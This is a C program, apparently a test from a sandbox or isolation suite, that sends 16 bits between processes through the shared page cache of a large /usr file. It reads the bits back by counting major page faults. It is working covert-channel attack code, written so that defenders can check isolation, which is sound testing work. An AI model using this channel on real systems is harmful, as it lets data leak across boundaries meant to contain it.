/* Sends 16 bits in the page cache: one run reads those of 16 pages of a large
 * file of /usr that are to be 1, the next one sees which reads are major
 * faults. There is no mincore and no cachestat here, but getrusage counts
 * faults and a clock does as well. Each page can be used once, until memory is
 * short: nothing a run may do puts it out of the cache again. What must stop it:
 * copies are in memory, all of them. */
#include "attack.h"
#include <fcntl.h>
#include <glob.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>

#define MESSAGE 0xa5c3u

static off_t size;

static int largest(void)
{
	static const char *const patterns[] = {"/usr/lib/jvm/*/lib/*", "/usr/lib/gcc/*/*/*", "/usr/libexec/gcc/*/*/*", "/usr/lib/*/lib*.so*", "/usr/bin/*"};
	glob_t found = {0};
	int best = -1;
	for (size_t i = 0; i < sizeof patterns / sizeof *patterns; i++)
		glob(patterns[i], i ? GLOB_APPEND : 0, NULL, &found);
	for (size_t i = 0; i < found.gl_pathc; i++) {
		struct stat info;
		if (stat(found.gl_pathv[i], &info) < 0 || !S_ISREG(info.st_mode) || info.st_size <= size)
			continue;
		int fd = open(found.gl_pathv[i], O_RDONLY);
		if (fd < 0)
			continue;
		if (best >= 0)
			close(best);
		best = fd;
		size = info.st_size;
	}
	return best;
}

static int major_fault(volatile const char *page)
{
	struct rusage before, after;
	getrusage(RUSAGE_SELF, &before);
	(void)*page;
	getrusage(RUSAGE_SELF, &after);
	return after.ru_majflt > before.ru_majflt;
}

int main(int argc, char **argv)
{
	int fd = largest();
	const char *map = fd < 0 ? MAP_FAILED : mmap(NULL, size, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED || madvise((void *)map, size, MADV_RANDOM) < 0) /* no read-ahead */
		held("no file: %s", strerror(errno));
	/* Both know the time, so they know which pages: others than the last time. */
	uint64_t seed = (uint64_t)time(NULL) / 30 * 0x9e3779b97f4a7c15u, got = 0;
	for (int i = 0; i < 16; i++) {
		seed ^= seed << 13, seed ^= seed >> 7, seed ^= seed << 17;
		volatile const char *page = map + seed % (size / 4096) * 4096;
		if (argc > 1 && strcmp(argv[1], "send") == 0)
			got |= (uint64_t)(MESSAGE >> i & 1 ? !major_fault(page) : 0) << i;
		else
			got |= (uint64_t)!major_fault(page) << i;
	}
	if (argc > 1 && strcmp(argv[1], "send") == 0)
		held("sent %04x in %lld MiB; in the cache before: %04llx", MESSAGE, (long long)size >> 20, (unsigned long long)got);
	if (got == MESSAGE)
		broke("received %04x through the page cache", MESSAGE);
	held("received %04llx, not %04x", (unsigned long long)got, MESSAGE);
}
